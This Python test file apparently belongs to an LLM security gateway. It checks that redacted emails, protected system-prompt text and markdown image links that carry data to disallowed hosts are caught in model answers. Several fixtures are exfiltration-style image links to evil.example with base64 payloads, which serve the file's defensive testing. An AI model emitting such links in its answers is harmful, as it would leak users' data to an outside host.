"""What an exchange knows while its answer is inspected."""

from msgspec.structs import replace

from promptguard_gateway.core.detector import Redacted
from promptguard_gateway.core.policy import Action, Mode, Verb
from promptguard_gateway.core.presets import PRESETS
from promptguard_gateway.core.segments import Column, Role, Segment
from promptguard_gateway.detectors.catalogue import DETECTORS
from promptguard_gateway.detectors.links import LINKS
from promptguard_gateway.proxy.inspect import Judge, knowledge_of

MAIL = "jane.roe@mail.example"
JUDGE = Judge(DETECTORS, PRESETS["moderate"])


def said(text: str, role: Role = Role.USER) -> Segment:
    column = Column.SYSTEM if role is Role.SYSTEM else Column.UNTRUSTED
    return Segment(location=("messages", 0, "content"), role=role, text=text, column=column, turn=0)


def answered(text: str) -> Segment:
    return Segment(location=("choices", 0), role=Role.ASSISTANT, text=text, column=Column.ANSWER)


def test_redacted_values_are_known_with_their_labels() -> None:
    """What the request's redaction took out must not come back in the answer."""
    segments = [said("You are brief.", Role.SYSTEM), said(f"Write to {MAIL} now")]
    known = knowledge_of(segments, ("canary",), JUDGE.request("p", segments))
    assert known.redacted == (Redacted(MAIL, "EMAIL"),)
    assert known.protected == ("You are brief.",)
    assert known.canaries == ("canary",)
    answer = Segment(
        location=("choices", 0), role=Role.ASSISTANT, text=f"I wrote to {MAIL.upper()}.", column=Column.ANSWER
    )
    [edit] = JUDGE.answer([answer], known).decision.edits
    assert edit.replacement == "[EMAIL_REDACTED]"


def test_what_the_instructions_say_in_the_clear_may_be_said() -> None:
    """The operator gave the model the support address, so a user who names it takes nothing away from it."""
    segments = [said(f"Support is {MAIL}", Role.SYSTEM), said(f"Is {MAIL} right?")]
    assert knowledge_of(segments, (), JUDGE.request("p", segments)).redacted == ()


def test_nothing_is_redacted_in_monitor_mode() -> None:
    """The model got the value itself, so the answer may hold it."""
    judge = Judge(DETECTORS, replace(PRESETS["moderate"], mode=Mode.MONITOR))
    segments = [said(f"Write to {MAIL} now")]
    assert knowledge_of(segments, (), judge.request("p", segments)).redacted == ()


def test_the_policys_hosts_and_the_column_reach_the_detectors() -> None:
    """An image may lead to a host that the policy allows, whatever it carries."""
    image = "![x](https://pictures.example/p.png?data=Zm9vYmFyMTIzNDU2Nzg5MHF3ZXJ0eXVpb3A5OTk5)"
    answer = answered(image)
    assert JUDGE.answer([answer], knowledge_of([], ())).decision.edits
    allowing = Judge(DETECTORS, replace(PRESETS["moderate"], allowed_hosts=("pictures.example",)))
    assert allowing.answer([answer], knowledge_of([], ())).decision.edits == ()


def test_what_was_held_for_too_long_never_passes() -> None:
    """An address without end is longer than may be held back: that is a block, whatever the matrix says."""
    endless = answered("see ![x](https://evil.example/p?d=" + "Zm9vYmFy" * 1200)
    decision = JUDGE.answer([endless], knowledge_of([], ())).decision
    assert (decision.outcome, decision.threat_type) == (Verb.BLOCK, "policy_violation")


def test_what_was_held_for_too_long_can_be_replaced() -> None:
    """Where the policy says so; then the decision is to redact, too."""
    judge = Judge([LINKS], replace(PRESETS["moderate"], overflow=Action.REDACT))
    endless = answered("see ![x](https://evil.example/p?d=" + "Zm9vYmFy" * 1200 + " bye")
    decision = judge.answer([endless], knowledge_of([], ())).decision
    assert (decision.outcome, [edit.replacement for edit in decision.edits][:1]) == (
        Verb.REDACT,
        ["[OVERFLOW_REDACTED]"],
    )
